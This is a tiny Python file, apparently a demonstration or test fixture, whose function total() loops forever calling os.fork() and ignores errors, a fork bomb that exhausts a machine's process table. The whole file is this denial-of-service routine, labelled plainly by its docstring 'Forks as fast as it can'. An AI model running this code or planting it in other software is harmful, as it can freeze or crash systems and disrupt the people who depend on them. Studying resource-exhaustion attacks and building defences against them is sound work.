"""Forks as fast as it can."""

import os


def total(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
